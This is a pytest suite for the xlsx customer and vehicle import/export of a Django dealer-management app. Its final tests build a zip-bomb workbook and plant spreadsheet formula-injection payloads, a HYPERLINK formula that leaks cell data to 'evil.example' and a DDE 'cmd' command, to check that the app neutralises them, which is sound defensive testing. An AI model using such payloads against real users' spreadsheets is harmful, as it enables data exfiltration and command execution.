"""Import and export of customers and vehicles as .xlsx."""

import io
import time
import zipfile
from datetime import date, timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from conftest import make_user, valid_vin
from dms.core.errors import DomainError
from dms.core.models import Brand
from dms.core.roles import Role
from dms.core.tenancy import resolve_tenant
from dms.customers import tasks, xlsx
from dms.customers.models import ConsentEvent, Customer, ExportRecord, ImportJob
from dms.customers.services import customer_create
from dms.vehicles.models import Vehicle
from dms.vehicles.services import vehicle_create

HEADER = ["姓名", "称呼", "手机", "VIN", "车牌", "品牌", "车型", "里程(km)"]


@pytest.fixture(autouse=True)
def files_and_tasks(settings, tmp_path):
    """Uploads go to a temporary folder; tasks run at once, inside the request."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path / "media"},
        },
    }
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def manager_client(manager):
    c = Client()
    c.force_login(manager)
    return c


def workbook(rows, header=HEADER) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(content: bytes, name: str = "customers.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=xlsx.CONTENT_TYPE)


def run_import(tenant, content: bytes) -> ImportJob:
    job = xlsx.import_start(tenant=tenant, upload=upload(content))
    job.refresh_from_db()
    return job


def bad_check_digit(vin: str) -> str:
    wrong = "1" if vin[8] != "1" else "2"
    return vin[:8] + wrong + vin[9:]


def sheet_rows(content: bytes) -> list[tuple]:
    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return list(ws.iter_rows(values_only=True))


def test_good_rows_are_imported_and_bad_rows_reported_with_row_and_reason(manager_tenant, brand):
    content = workbook(
        [
            ["李四", "女士", "13912345678", valid_vin(2), "粤B23456", "东风本田", "雅阁", 15000],
            ["周一", "先生", "13912340001", bad_check_digit(valid_vin(3)), "粤B23457", "东风本田", "思域", 100],
            ["周二", "先生", "13912340002", valid_vin(4), "粤B1234", "东风本田", "思域", 100],
            ["周三", "先生", "12345", valid_vin(5), "粤B23459", "东风本田", "思域", 100],
            ["周四", "先生", "13912340004", valid_vin(6), "粤B23460", "东风本田", "思域", "abc"],
            ["周五", "先生", "13912340005", valid_vin(7), "粤B23461", "特斯拉", "Model 3", 100],
            ["王五", "", "13712345678", None, None, None, None, None],
        ]
    )  # fmt: skip

    job = run_import(manager_tenant, content)

    assert job.status == ImportJob.Status.DONE
    assert (job.total_rows, job.processed_rows) == (7, 7)
    assert (job.created_customers, job.created_vehicles, job.error_rows) == (2, 1, 5)
    assert [(e["row"], e["column"]) for e in job.errors] == [
        (3, "VIN"),
        (4, "车牌"),
        (5, "手机"),
        (6, "里程(km)"),
        (7, "品牌"),
    ]
    assert all(e["message"] for e in job.errors)
    li = Customer.objects.get(name="李四")
    assert (li.title, li.mobile, li.source) == ("ms", "13912345678", "import")
    v = Vehicle.objects.get(owner=li)
    assert (v.vin, v.plate, v.brand, v.model, v.mileage_km) == (valid_vin(2), "粤B23456", brand, "雅阁", 15000)  # fmt: skip
    assert not Vehicle.objects.filter(owner__name="王五").exists()
    assert not Customer.objects.filter(name__startswith="周").exists()


def test_the_errors_of_a_row_are_listed_in_the_order_of_its_columns(manager_tenant, brand):
    content = workbook([["周三", "先生", "12345", valid_vin(5), "粤B2345", "东风本田", "思域", "abc"]])

    job = run_import(manager_tenant, content)

    assert [(e["row"], e["column"]) for e in job.errors] == [(2, "手机"), (2, "车牌"), (2, "里程(km)")]
    assert job.error_rows == 1


def test_a_bad_row_leaves_nothing_behind(manager_tenant, brand):
    """The customer of a row is created before its vehicle; the vehicle's error undoes it."""
    future = date.today() + timedelta(days=30)
    content = workbook(
        [["赵六", "先生", "13612345678", valid_vin(8), "粤B34567", "东风本田", "思域", 100, future, "是"]],
        header=[*HEADER, "购车日期", "营销同意"],
    )

    job = run_import(manager_tenant, content)

    assert job.error_rows == 1
    assert job.errors[0]["row"] == 2 and job.errors[0]["column"] == "购车日期"
    assert not Customer.objects.filter(name="赵六").exists()
    assert not Vehicle.objects.filter(vin=valid_vin(8)).exists()
    assert not ConsentEvent.objects.exists()


def test_reimporting_the_same_file_creates_no_duplicates(manager_tenant, brand):
    content = workbook(
        [
            ["李四", "女士", "13912345678", valid_vin(2), "粤B23456", "东风本田", "雅阁", 15000],
            ["李四", "女士", "13912345678", valid_vin(3), "粤B23457", "东风本田", "飞度", 3000],
            ["王五", "", "13712345678", None, None, None, None, None],
        ]
    )
    first = run_import(manager_tenant, content)
    assert (first.created_customers, first.reused_customers, first.created_vehicles) == (2, 1, 2)

    again = run_import(manager_tenant, content)

    assert (again.created_customers, again.created_vehicles) == (0, 0)
    assert again.reused_customers == 1  # the customer-only row
    assert [(e["row"], e["column"]) for e in again.errors] == [(2, "VIN"), (3, "VIN")]
    assert Customer.objects.count() == 2
    assert Vehicle.objects.count() == 2


def test_export_then_import_is_a_round_trip(manager_client, manager_tenant, vehicle, other_group_store):
    customer_create(
        tenant=manager_tenant, name="钱七", mobile="13512345678", title="ms", email="qian@example.com",
        region="深圳", source="referral", birthday=date(1990, 2, 3), marketing_consent=True,
    )  # fmt: skip
    vehicle_create(
        tenant=manager_tenant, owner_id=vehicle.owner_id, vin=valid_vin(9), plate="粤BD12345",
        brand_id=vehicle.brand_id, model="e:NP1", energy="bev", usage="company", purchase_date=date(2023, 4, 5),
        registration_date=date(2023, 4, 9), mileage_km=800, insurance_expiry=date(2026, 4, 8),
    )  # fmt: skip
    exported = manager_client.get(reverse("customers:export"))
    assert exported.status_code == 200
    assert exported["Content-Type"] == xlsx.CONTENT_TYPE
    content = b"".join(exported.streaming_content)
    # Into another group, whose brand has the same name.
    Brand.objects.create(group=other_group_store.group, name="东风本田")
    other_manager = make_user("manager9", other_group_store, Role.SERVICE_MANAGER)
    other_tenant = resolve_tenant(other_manager)

    job = run_import(other_tenant, content)

    assert (job.error_rows, job.created_customers, job.created_vehicles) == (0, 2, 2), job.errors
    qian = Customer.objects.for_tenant(other_tenant).get(name="钱七")
    assert (qian.title, qian.email, qian.region, qian.source, qian.birthday, qian.marketing_consent) == (
        "ms", "qian@example.com", "深圳", "referral", date(1990, 2, 3), True,
    )  # fmt: skip
    ev = Vehicle.objects.for_tenant(other_tenant).get(vin=valid_vin(9))
    assert (ev.plate, ev.energy, ev.usage, ev.purchase_date, ev.mileage_km) == (
        "粤BD12345", "bev", "company", date(2023, 4, 5), 800,
    )  # fmt: skip
    again = io.BytesIO()
    xlsx.export_write(tenant=other_tenant, out=again)
    assert sheet_rows(again.getvalue()) == sheet_rows(content)


def test_export_is_recorded_with_who_when_and_how_many_rows(manager_client, manager, store, vehicle):
    customer_create(tenant=resolve_tenant(manager), name="钱七", mobile="13512345678")

    response = manager_client.get(reverse("customers:export"))

    assert response.status_code == 200
    rows = sheet_rows(b"".join(response.streaming_content))
    assert rows[0][:3] == ("姓名", "称呼", "手机") and len(rows) == 3
    record = ExportRecord.objects.get()
    assert (record.user, record.username, record.store, record.what) == (
        manager, "manager1", store, ExportRecord.What.CUSTOMERS_VEHICLES,
    )  # fmt: skip
    assert (record.row_count, record.customer_count) == (2, 2)
    assert record.at is not None


def test_sa_without_the_permission_gets_403(sa_client):
    assert sa_client.get(reverse("customers:import")).status_code == 403
    assert sa_client.post(reverse("customers:import"), {"file": upload(workbook([]))}).status_code == 403
    assert sa_client.get(reverse("customers:export")).status_code == 403
    assert sa_client.get(reverse("customers:import_template")).status_code == 403
    assert not ExportRecord.objects.exists()
    assert not ImportJob.objects.exists()


def test_outsider_gets_404_for_an_import_of_another_group(outsider_client, manager_tenant):
    job = run_import(manager_tenant, workbook([["王五", "", "13712345678"]], header=["姓名", "称呼", "手机"]))

    response = outsider_client.get(reverse("customers:import_status", args=[job.pk]))

    assert response.status_code == 404


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("customers.csv", "姓名,手机\n王五,13712345678\n".encode()),
        ("customers.xlsx", "姓名,手机\n王五,13712345678\n".encode()),
        ("customers.xlsx", b"PK\x03\x04 not really a zip"),
        ("customers.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old .xls"),
    ],
    ids=["csv", "csv-named-xlsx", "broken-zip", "xls"],
)
def test_a_file_that_cannot_be_imported_gets_a_clear_error(manager_client, name, content):
    response = manager_client.post(reverse("customers:import"), {"file": upload(content, name)})

    assert response.status_code == 400
    errors = response.context["form"].errors["file"]
    assert errors and errors[0]
    assert errors[0] in response.content.decode()
    assert not ImportJob.objects.exists()


def test_a_file_over_the_size_limit_is_refused(manager_client, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_BYTES", 1000)
    content = workbook([["王五", "", "13712345678"]] * 50, header=["姓名", "称呼", "手机"])

    response = manager_client.post(reverse("customers:import"), {"file": upload(content)})

    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert not ImportJob.objects.exists()


def test_a_file_over_the_row_limit_fails_and_imports_nothing(manager_tenant, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    rows = [[f"客户{i}", "", f"1391234000{i}"] for i in range(4)]

    job = run_import(manager_tenant, workbook(rows, header=["姓名", "称呼", "手机"]))

    assert job.status == ImportJob.Status.FAILED
    assert job.message
    assert not Customer.objects.exists()
    assert not job.file  # the upload is not kept


def test_progress_counts_reach_the_total(manager_client, manager, monkeypatch, brand):
    monkeypatch.setattr(xlsx, "PROGRESS_EVERY", 2)
    seen = []
    import_row = xlsx.import_row

    def watching(*args, **kwargs):
        seen.append(ImportJob.objects.values_list("processed_rows", "total_rows").get())
        return import_row(*args, **kwargs)

    monkeypatch.setattr(xlsx, "import_row", watching)
    rows = [[f"客户{i}", "", f"1391234{i:04d}"] for i in range(7)]

    response = manager_client.post(
        reverse("customers:import"), {"file": upload(workbook(rows, header=["姓名", "称呼", "手机"]))}
    )

    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("customers:import_status", args=[job.pk])
    assert [done for done, _total in seen] == [0, 0, 2, 2, 4, 4, 6]
    assert {total for _done, total in seen} == {7}
    assert (job.status, job.processed_rows, job.total_rows, job.created_customers) == ("done", 7, 7, 7)
    fragment = manager_client.get(response["Location"], HTTP_HX_REQUEST="true")
    assert fragment.status_code == 200
    assert "hx-trigger" not in fragment.content.decode()  # finished: no more polling
    assert 'aria-valuenow="7"' in fragment.content.decode()
    page = manager_client.get(response["Location"])
    assert page.status_code == 200 and "<html" in page.content.decode()


def test_a_running_import_is_polled(manager_client, manager, store):
    job = ImportJob.objects.create(
        group=store.group, store=store, user=manager, filename="a.xlsx", status=ImportJob.Status.RUNNING,
        total_rows=10, processed_rows=4,
    )  # fmt: skip

    html = manager_client.get(
        reverse("customers:import_status", args=[job.pk]), HTTP_HX_REQUEST="true"
    ).content.decode()

    assert 'hx-trigger="every 1s"' in html
    assert "width: 40%" in html


def test_english_headers_and_choice_codes_are_recognised(manager_tenant, brand):
    content = workbook(
        [["Li Si", "ms", "139 1234 5678", valid_vin(2), "东风本田", "CR-V", "BEV", "company", "2023/4/5", "12,000"]],
        header=["Name", "Title", "Mobile", "VIN", "Brand", "Model", "Energy", "Usage", "Purchase date", "Mileage"],
    )  # fmt: skip

    job = run_import(manager_tenant, content)

    assert (job.error_rows, job.created_vehicles) == (0, 1), job.errors
    v = Vehicle.objects.select_related("owner").get()
    assert (v.owner.title, v.owner.mobile, v.energy, v.usage, v.purchase_date, v.mileage_km) == (
        "ms", "13912345678", "bev", "company", date(2023, 4, 5), 12000,
    )  # fmt: skip


EVERY_OTHER_FIELD = {
    "职业": "教师", "联系方式": "微信", "联系时间": "晚上", "性格类型": "分析型", "客户起始日期": "2015-03-01",
    "客户经理": "manager1", "备注": "只在周末来", "销售门店": "SZ01", "车辆备注": "后保险杠有旧划痕",
}  # fmt: skip


def test_every_field_of_the_customer_and_vehicle_files_is_imported(manager_tenant, manager, store, brand):
    header = ["姓名", "手机", "VIN", "品牌", "车型", *EVERY_OTHER_FIELD]
    row = ["赵六", "13611112222", valid_vin(8), "东风本田", "雅阁", *EVERY_OTHER_FIELD.values()]

    job = run_import(manager_tenant, workbook([row], header=header))

    assert (job.error_rows, job.created_customers, job.created_vehicles) == (0, 1, 1), job.errors
    zhao = Customer.objects.get(name="赵六")
    assert (zhao.occupation, zhao.preferred_channel, zhao.preferred_time, zhao.behaviour_type, zhao.notes) == (
        "教师", "wechat", "evening", "analytical", "只在周末来",
    )  # fmt: skip
    assert (zhao.known_since, zhao.customer_manager) == (date(2015, 3, 1), manager)
    assert zhao.value_tier == "lost"  # known since 2015, never came back: not a new customer
    v = Vehicle.objects.get(owner=zhao)
    assert (v.selling_store, v.notes) == (store, "后保险杠有旧划痕")


def test_every_imported_field_is_exported(manager_tenant, manager, brand):
    header = ["姓名", "手机", "VIN", "品牌", "车型", *EVERY_OTHER_FIELD]
    run_import(manager_tenant, workbook([["赵六", "13611112222", valid_vin(8), "东风本田", "雅阁", *EVERY_OTHER_FIELD.values()]], header=header))  # fmt: skip
    out = io.BytesIO()

    xlsx.export_write(tenant=manager_tenant, out=out)

    head, row = sheet_rows(out.getvalue())
    exported = dict(zip(head, row, strict=True))
    assert {k: exported[k] for k in EVERY_OTHER_FIELD if k != "客户起始日期"} == {
        k: v for k, v in EVERY_OTHER_FIELD.items() if k != "客户起始日期"
    }
    assert exported["客户起始日期"].date() == date(2015, 3, 1)


def test_a_customer_manager_or_store_not_in_the_group_is_a_row_error(manager_tenant, brand):
    header = ["姓名", "手机", "VIN", "品牌", "车型", "客户经理", "销售门店"]

    job = run_import(manager_tenant, workbook([["赵六", "13611112222", valid_vin(8), "东风本田", "雅阁", "nobody", "XX99"]], header=header))  # fmt: skip

    assert [(e["row"], e["column"]) for e in job.errors] == [(2, "客户经理"), (2, "销售门店")]
    assert not Customer.objects.filter(name="赵六").exists()


def test_the_template_imports_as_it_is(manager_client, manager_tenant, brand):
    response = manager_client.get(reverse("customers:import_template"))
    content = b"".join(response.streaming_content)

    job = run_import(manager_tenant, content)

    assert (job.error_rows, job.created_customers, job.created_vehicles) == (0, 1, 1), job.errors
    assert not ExportRecord.objects.exists()  # no personal data: not an export


def test_the_page_shows_upload_export_and_recent_work(manager_client, manager_tenant):
    run_import(manager_tenant, workbook([["王五", "", "13712345678"]], header=["姓名", "称呼", "手机"]))

    html = manager_client.get(reverse("customers:import")).content.decode()

    assert reverse("customers:export") in html
    assert reverse("customers:import_template") in html
    assert 'enctype="multipart/form-data"' in html
    assert "customers.xlsx" in html


# --- Hostile files: the archive is checked before openpyxl opens it, the workbook is read by the worker


def zip_bomb(megabytes: int = 60) -> bytes:
    """A real workbook whose shared strings unpack to `megabytes` MB of one repeated text (a few KB packed)."""
    source = zipfile.ZipFile(
        io.BytesIO(workbook([["王五", "", "13712345678"]], header=["姓名", "称呼", "手机"]))
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                bomb.writestr(info.filename, source.read(info.filename))
        text = "<si><t>" + "A" * 1000 + "</t></si>"
        body = (
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + text * (megabytes * 1000)
            + "</sst>"
        )
        bomb.writestr("xl/sharedStrings.xml", body)
    return out.getvalue()


@pytest.fixture
def openpyxl_calls(monkeypatch):
    calls = []
    load = openpyxl.load_workbook

    def watching(*args, **kwargs):
        calls.append(args)
        return load(*args, **kwargs)

    monkeypatch.setattr(xlsx.openpyxl, "load_workbook", watching)
    return calls


def test_a_zip_bomb_is_refused_quickly_without_being_opened(manager_client, openpyxl_calls):
    content = zip_bomb()
    assert len(content) < 200 * 1024

    started = time.perf_counter()
    response = manager_client.post(reverse("customers:import"), {"file": upload(content)})
    elapsed = time.perf_counter() - started

    assert response.status_code == 400
    message = response.context["form"].errors["file"][0]
    assert "50 MB" in message and message in response.content.decode()
    assert openpyxl_calls == []
    assert elapsed < 2
    assert not ImportJob.objects.exists()


def test_an_archive_packed_far_too_tightly_or_with_too_many_parts_is_refused(manager_tenant, openpyxl_calls):
    packed = zip_bomb(megabytes=5)  # under the total, but 5 MB of one text packs more than 100 to 1
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(xlsx.MAX_MEMBERS + 1):
            archive.writestr(f"xl/media/{i}.txt", "x")

    for content in (packed, many.getvalue()):
        with pytest.raises(DomainError) as refused:
            xlsx.import_start(tenant=manager_tenant, upload=upload(content))
        assert refused.value.field == "file"
    assert openpyxl_calls == []
    assert not ImportJob.objects.exists()


def test_the_request_only_queues_and_the_worker_reads_the_workbook(
    manager_client, settings, openpyxl_calls, brand
):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}  # queued, not run
    content = workbook([["李四", "女士", "13912345678", valid_vin(2), "粤B23456", "东风本田", "雅阁", 15000]])

    response = manager_client.post(reverse("customers:import"), {"file": upload(content)})

    job = ImportJob.objects.get()
    assert response.status_code == 302 and job.status == ImportJob.Status.QUEUED
    assert openpyxl_calls == []  # nothing parsed inside the request
    waiting = manager_client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in waiting  # the page polls while the worker has not finished

    result = tasks.import_customers.call(job.pk)  # what the worker runs

    job.refresh_from_db()
    assert result["status"] == "done" and len(openpyxl_calls) == 1
    assert (job.status, job.created_customers, job.created_vehicles) == ("done", 1, 1)
    assert Vehicle.objects.get().owner.name == "李四"
    done = manager_client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in done and 'aria-valuenow="1"' in done


def test_a_file_without_the_required_columns_fails_in_the_worker_with_the_reason(manager_client):
    content = workbook([["王五", "13712345678"]], header=["客户", "电话号码"])

    response = manager_client.post(reverse("customers:import"), {"file": upload(content)})

    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert job.status == ImportJob.Status.FAILED and "姓名" in job.message
    assert not job.file
    page = manager_client.get(response["Location"]).content.decode()
    assert job.message in page


def test_a_cell_that_would_be_a_formula_is_exported_as_text(manager_client, manager_tenant, brand):
    import zipfile as zf

    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
    for name, notes in ((hostile, "+cmd|' /C calc'!A0"), ("张三", "@SUM(1+1)")):
        customer_create(tenant=manager_tenant, name=name, mobile=f"1391234000{len(notes) % 10}", notes=notes)
    customer_create(tenant=manager_tenant, name="李四", mobile="13912340009", phone2="+86 755 1234 5678")

    content = b"".join(manager_client.get(reverse("customers:export")).streaming_content)

    cells = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    texts = {c.value: c for row in cells.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for value in (hostile, "+cmd|' /C calc'!A0", "@SUM(1+1)", "+86 755 1234 5678"):
        assert texts[value].data_type == "s"  # the text as it was, not a formula
        assert texts[value].quotePrefix  # Excel keeps it text when the cell is edited
    sheet_xml = zf.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    assert texts["张三"].data_type == "s" and not texts["张三"].quotePrefix
